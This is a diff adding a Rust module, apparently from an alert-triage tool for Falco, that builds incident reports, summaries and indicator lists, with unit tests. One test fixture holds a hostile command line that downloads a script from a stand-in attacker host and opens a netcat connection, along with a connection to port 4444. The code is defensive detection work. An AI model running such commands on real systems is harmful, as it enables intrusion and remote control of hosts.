@@ -1,0 +1,449 @@
+//! What a report holds, whatever it is written as: the alerts with their analyses, what people decided, and what follows
+//! from all of them together.
+
+use super::mask;
+use crate::analysis::{Analysis, Direction};
+use crate::model::{Alert, Level, Status, Value};
+use crate::text::plural;
+use crate::triage::Decision;
+use jiff::Timestamp;
+use std::collections::BTreeMap;
+
+/// One alert of a report.
+#[derive(Clone, Debug)]
+pub struct Chapter {
+    pub alert: Alert,
+    pub analysis: Analysis,
+    /// SHA-256 of the raw record, in hexadecimal digits.
+    pub sha256: String,
+    /// What people decided, with who and when in words; `None` where nobody did.
+    pub decision: Option<(Decision, String)>,
+}
+
+/// A whole report.
+#[derive(Clone, Debug)]
+pub struct Dossier {
+    pub title: String,
+    pub made: Timestamp,
+    /// In the order of time; alerts without one come last.
+    pub chapters: Vec<Chapter>,
+    /// Secrets that were masked; `None` when masking is off.
+    pub masked: Option<usize>,
+}
+
+/// Something another tool can look for.
+#[derive(Clone, Debug, PartialEq, Eq, PartialOrd, Ord)]
+pub struct Indicator {
+    /// `address`, `host name`, `image`, `path`, `container`, `user`…
+    pub kind: &'static str,
+    pub value: String,
+    /// The field it was read from.
+    pub field: &'static str,
+}
+
+impl Dossier {
+    /// Puts alerts in order, and masks secrets unless told not to.
+    pub fn new(title: &str, made: Timestamp, mut chapters: Vec<Chapter>, masks: bool) -> Self {
+        chapters.sort_by_key(|chapter| (chapter.alert.time.is_none(), chapter.alert.time));
+        let masked = masks.then(|| {
+            chapters
+                .iter_mut()
+                .map(|c| mask::alert(&mut c.alert) + mask::analysis(&mut c.analysis))
+                .sum()
+        });
+        Self { title: title.to_owned(), made, chapters, masked }
+    }
+
+    /// The alert that is worst by its assessment; of several the first.
+    pub fn worst(&self) -> Option<&Chapter> {
+        self.chapters.iter().rev().max_by_key(|chapter| chapter.analysis.assessment.level)
+    }
+
+    /// First and last time.
+    pub fn span(&self) -> Option<(Timestamp, Timestamp)> {
+        let mut times = self.chapters.iter().filter_map(|chapter| chapter.alert.time);
+        let first = times.next()?;
+        Some((first, times.next_back().unwrap_or(first)))
+    }
+
+    /// The places the alerts speak of, with how many each.
+    pub fn places(&self) -> BTreeMap<String, usize> {
+        let mut places = BTreeMap::new();
+        for chapter in &self.chapters {
+            *places.entry(place(&chapter.alert)).or_default() += 1;
+        }
+        places
+    }
+
+    /// Five lines for somebody who reads nothing else.
+    pub fn summary(&self) -> Vec<String> {
+        let Some(worst) = self.worst() else {
+            return vec!["There is no alert to report.".to_owned()];
+        };
+        let rules: std::collections::BTreeSet<_> =
+            self.chapters.iter().map(|chapter| chapter.alert.rule_name()).collect();
+        let n = |count: usize, one, many| plural(count as u64, one, many);
+        let when = match self.span() {
+            Some((first, last)) if first != last => format!(" between {first:.0} and {last:.0}"),
+            Some((first, _)) => format!(" at {first:.0}"),
+            None => String::new(),
+        };
+        let what = format!(
+            "{} of {} in {}{when}.",
+            n(self.chapters.len(), "alert", "alerts"),
+            n(rules.len(), "rule", "rules"),
+            n(self.places().len(), "place", "places"),
+        );
+        let level = worst.analysis.assessment.level.name();
+        let reason = worst
+            .analysis
+            .assessment
+            .reasons
+            .iter()
+            .find(|reason| reason.direction == Direction::Up);
+        let why = reason.map_or_else(String::new, |reason| {
+            format!(" Strongest sign: {} ({}).", reason.says.trim_end_matches('.'), reason.field)
+        });
+        let worst_line = format!("Worst: {level}. {}{why}", worst.analysis.headline);
+        let story = self.story().unwrap_or_else(|| {
+            "The alerts show no chain of several tactics in one place.".to_owned()
+        });
+        let open = self
+            .chapters
+            .iter()
+            .filter(|chapter| {
+                chapter.decision.as_ref().is_none_or(|(d, _)| d.status == Status::Open)
+            })
+            .count();
+        let urgent = self
+            .chapters
+            .iter()
+            .filter(|c| {
+                c.analysis.assessment.level >= Level::High
+                    && c.decision.as_ref().is_none_or(|(d, _)| d.status == Status::Open)
+            })
+            .count();
+        let decided = format!(
+            "{} decided about, {open} open, of these {urgent} high or critical.",
+            self.chapters.len() - open
+        );
+        let next = worst.analysis.steps.iter().find(|step| step.command.is_some()).map_or_else(
+            || {
+                "Next: nothing can be done with what the alert holds; see what is missing."
+                    .to_owned()
+            },
+            |step| format!("Next: {} ({}).", step.title, step.risk.name()),
+        );
+        vec![what, worst_line, story, decided, next]
+    }
+
+    /// Several alerts of one place told as one story: the tactics in the order in which they were first seen.
+    pub fn story(&self) -> Option<String> {
+        let mut places: BTreeMap<String, Vec<&Chapter>> = BTreeMap::new();
+        for chapter in &self.chapters {
+            places.entry(place(&chapter.alert)).or_default().push(chapter);
+        }
+        let told = places.iter().filter_map(|(place, chapters)| {
+            let mut tactics: Vec<&str> = Vec::new();
+            for tactic in chapters
+                .iter()
+                .filter(|c| c.analysis.assessment.known.is_none())
+                .flat_map(|c| &c.analysis.attack)
+                .map(|attack| attack.tactic.as_str())
+            {
+                if !tactics.contains(&tactic) {
+                    tactics.push(tactic);
+                }
+            }
+            let first = chapters.first()?.alert.time?;
+            let last = chapters.iter().rev().find_map(|chapter| chapter.alert.time)?;
+            let seconds = last.as_second().saturating_sub(first.as_second());
+            (tactics.len() >= 3).then(|| {
+                format!("In {place}, within {}: {}.", spell(seconds), tactics.join(", then "))
+            })
+        });
+        let told: Vec<_> = told.collect();
+        (!told.is_empty()).then(|| told.join(" "))
+    }
+
+    /// Addresses, names, images and paths, each once.
+    pub fn indicators(&self) -> Vec<Indicator> {
+        let mut all: Vec<_> =
+            self.chapters.iter().flat_map(|chapter| indicators(&chapter.alert)).collect();
+        all.sort();
+        all.dedup_by(|a, b| a.kind == b.kind && a.value == b.value);
+        all
+    }
+
+    /// Techniques, each once, with the number of alerts.
+    pub fn techniques(&self) -> Vec<(&crate::analysis::Attack, usize)> {
+        let mut all: BTreeMap<&str, (&crate::analysis::Attack, usize)> = BTreeMap::new();
+        for attack in self.chapters.iter().flat_map(|chapter| &chapter.analysis.attack) {
+            all.entry(&attack.technique).or_insert((attack, 0)).1 += 1;
+        }
+        all.into_values().collect()
+    }
+
+    /// What is not known, each once.
+    pub fn unknown(&self) -> Vec<&crate::analysis::Missing> {
+        let mut all: Vec<&crate::analysis::Missing> = Vec::new();
+        for missing in self.chapters.iter().flat_map(|chapter| &chapter.analysis.missing) {
+            if !all.iter().any(|known| known.field == missing.field && known.find == missing.find) {
+                all.push(missing);
+            }
+        }
+        all
+    }
+}
+
+/// Where an alert fired, in a few words.
+pub fn place(alert: &Alert) -> String {
+    let container = alert.container();
+    let (namespace, pod) = alert.k8s();
+    if let (Some(namespace), Some(pod)) = (namespace, pod) {
+        return format!("pod {namespace}/{pod}");
+    }
+    match (container.name, container.id) {
+        (_, Some("host")) => alert
+            .hostname
+            .as_deref()
+            .map_or_else(|| "the host".to_owned(), |name| format!("host {name}")),
+        (Some(name), Some(id)) if !name.is_empty() && !id.is_empty() => {
+            format!("container {name} ({id})")
+        }
+        (Some(name), _) if !name.is_empty() => format!("container {name}"),
+        (_, Some(id)) if !id.is_empty() => format!("container {id}"),
+        _ => alert.hostname.as_deref().map_or_else(
+            || "an unknown place".to_owned(),
+            |name| format!("an unknown container on {name}"),
+        ),
+    }
+}
+
+fn spell(seconds: i64) -> String {
+    match seconds {
+        ..120 => plural(seconds.unsigned_abs(), "second", "seconds"),
+        120..7200 => plural((seconds / 60).unsigned_abs(), "minute", "minutes"),
+        _ => plural((seconds / 3600).unsigned_abs(), "hour", "hours"),
+    }
+}
+
+fn indicators(alert: &Alert) -> Vec<Indicator> {
+    const FIELDS: [(&str, &str); 17] = [
+        ("address", "fd.rip"),
+        ("address", "fd.sip"),
+        ("address", "fd.cip"),
+        ("host name", "fd.sip.name"),
+        ("host name", "fd.rip.name"),
+        ("image", "container.image.repository"),
+        ("image digest", "container.image.digest"),
+        ("path", "proc.exepath"),
+        ("path", "fd.name"),
+        ("container", "container.id"),
+        ("user", "user.loginname"),
+        ("user", "ka.user.name"),
+        ("user", "ct.user"),
+        ("address", "ct.srcip"),
+        ("address", "ka.sourceips"),
+        ("hash", "proc.exe_hash"),
+        ("user", "okta.actor.name"),
+    ];
+    let mut found = Vec::new();
+    for (kind, field) in FIELDS {
+        let Some(value) = alert.fields.known(field).map(Value::display) else { continue };
+        if value.is_empty() || value == "host" {
+            continue;
+        }
+        if field == "fd.name" && !value.starts_with('/') {
+            let ends = value
+                .split("->")
+                .filter_map(|end| end.rsplit_once(':'))
+                .map(|(address, _)| address.to_owned());
+            found.extend(ends.filter(|a| is_outside(a)).map(|value| Indicator {
+                kind: "address",
+                value,
+                field,
+            }));
+        } else if kind != "address" || is_outside(&value) {
+            found.push(Indicator { kind, value: value.into_owned(), field });
+        }
+    }
+    for word in alert
+        .fields
+        .text("proc.cmdline")
+        .unwrap_or_default()
+        .split(|c: char| c.is_whitespace() || "'\"()<>|;,=".contains(c))
+    {
+        let word = word.rsplit_once("://").map_or(word, |(_, rest)| rest);
+        let host = word
+            .split(['/', ':', '?'])
+            .next()
+            .unwrap_or_default()
+            .rsplit('@')
+            .next()
+            .unwrap_or_default();
+        if is_outside(host) {
+            found.push(Indicator {
+                kind: "address",
+                value: host.to_owned(),
+                field: "proc.cmdline",
+            });
+        } else if is_host_name(host) {
+            found.push(Indicator {
+                kind: "host name",
+                value: host.to_owned(),
+                field: "proc.cmdline",
+            });
+        }
+    }
+    found
+}
+
+/// An address that is not this machine's own.
+fn is_outside(text: &str) -> bool {
+    text.parse::<std::net::IpAddr>()
+        .is_ok_and(|address| !address.is_loopback() && !address.is_unspecified())
+}
+
+fn is_host_name(text: &str) -> bool {
+    const FILES: [&str; 16] = [
+        "sh", "py", "so", "json", "yaml", "yml", "txt", "log", "conf", "service", "js", "php", "c",
+        "gz", "md", "key",
+    ];
+    let mut labels = text.rsplit('.');
+    let top = labels.next().unwrap_or_default();
+    let fits = |label: &str| {
+        !label.is_empty() && label.bytes().all(|b| b.is_ascii_alphanumeric() || b == b'-')
+    };
+    text.contains('.')
+        && top.len() >= 2
+        && top.bytes().all(|b| b.is_ascii_lowercase())
+        && !FILES.contains(&top)
+        && labels.all(fits)
+        && !text.starts_with('-')
+}
+
+#[cfg(test)]
+pub(super) mod tests {
+    use super::*;
+    use crate::analysis::{Assessment, Match, Missing, PlaybookRef, Reason, Risk, Step};
+
+    /// A chapter in which everything that an alert can say is `hostile`.
+    pub fn chapter(hostile: &str) -> Chapter {
+        let mut alert = alert(&[
+            ("proc.cmdline", hostile),
+            ("fd.name", hostile),
+            ("container.id", hostile),
+            ("container.name", hostile),
+            (hostile, hostile),
+        ]);
+        alert.rule = Some(hostile.into());
+        alert.hostname = Some(hostile.into());
+        alert.output = Some(hostile.into());
+        alert.time = Some("2026-11-21T09:00:00.5Z".parse().unwrap());
+        alert.origin.source = hostile.into();
+        let text = || hostile.to_owned();
+        let analysis = Analysis {
+            playbook: PlaybookRef { id: text(), found_by: Match::Rule },
+            headline: text(),
+            summary: text(),
+            proves: vec![text()],
+            not_proven: vec![text()],
+            facts: Vec::new(),
+            assessment: Assessment {
+                level: Level::High,
+                falco_priority: None,
+                known: None,
+                reasons: vec![Reason { field: text(), says: text(), direction: Direction::Up }],
+            },
+            causes: Vec::new(),
+            missing: vec![Missing { field: text(), why: text(), find: text() }],
+            attack: Vec::new(),
+            steps: vec![Step {
+                phase: crate::analysis::Phase::Verify,
+                id: "x".into(),
+                title: text(),
+                why: text(),
+                command: Some("docker pause 0123456789ab".into()),
+                variant: "docker".into(),
+                others: Vec::new(),
+                risk: Risk::ReadOnly,
+                undo: None,
+                privilege: "root".into(),
+                needs: Vec::new(),
+                unavailable: None,
+                note: None,
+            }],
+            related: Vec::new(),
+            tuning: Some(text()),
+            references: Vec::new(),
+        };
+        Chapter {
+            alert,
+            analysis,
+            sha256: text(),
+            decision: Some((Decision { note: Some(text()), ..Decision::default() }, text())),
+        }
+    }
+
+    #[test]
+    fn the_summary_has_five_lines_and_masks_secrets() {
+        let made = "2026-11-21T10:00:00Z".parse().unwrap();
+        let dossier = Dossier::new("Case", made, vec![chapter("app --password=hunter2")], true);
+        assert_eq!(dossier.summary().len(), 5);
+        assert!(dossier.masked > Some(0));
+        let alert = &dossier.chapters[0].alert;
+        assert!(!alert.fields.text("proc.cmdline").unwrap().contains("hunter2"));
+        assert!(!alert.output.as_deref().unwrap().contains("hunter2"));
+        assert!(!dossier.chapters[0].analysis.headline.contains("hunter2"));
+    }
+
+    fn alert(fields: &[(&str, &str)]) -> Alert {
+        let mut alert = Alert::default();
+        for (key, value) in fields {
+            alert.fields.set(key, Value::String((*value).into()));
+        }
+        alert
+    }
+
+    #[test]
+    fn what_others_can_look_for_is_listed() {
+        let alert = alert(&[
+            ("fd.name", "10.0.0.5:41000->198.51.100.7:4444"),
+            (
+                "proc.cmdline",
+                "sh -c curl -o /tmp/a.sh http://evil.example.org:8080/a.sh && nc 203.0.113.9 1",
+            ),
+            ("container.image.repository", "docker.io/library/nginx"),
+            ("container.id", "0123456789ab"),
+        ]);
+        let found: Vec<_> = indicators(&alert).into_iter().map(|i| (i.kind, i.value)).collect();
+        for expected in [
+            ("address", "198.51.100.7"),
+            ("address", "203.0.113.9"),
+            ("host name", "evil.example.org"),
+            ("image", "docker.io/library/nginx"),
+            ("container", "0123456789ab"),
+        ] {
+            assert!(
+                found.contains(&(expected.0, expected.1.to_owned())),
+                "{found:?} lacks {expected:?}"
+            );
+        }
+        assert!(!found.iter().any(|(_, value)| value == "a.sh"));
+    }
+
+    #[test]
+    fn a_place_is_named_as_people_do() {
+        assert_eq!(place(&alert(&[("container.id", "host")])), "the host");
+        assert_eq!(
+            place(&alert(&[("container.id", "0123456789ab"), ("container.name", "web")])),
+            "container web (0123456789ab)"
+        );
+        assert_eq!(
+            place(&alert(&[("k8s.ns.name", "prod"), ("k8s.pod.name", "web-0")])),
+            "pod prod/web-0"
+        );
+        assert_eq!(place(&alert(&[("container.id", "")])), "an unknown place");
+    }
+}
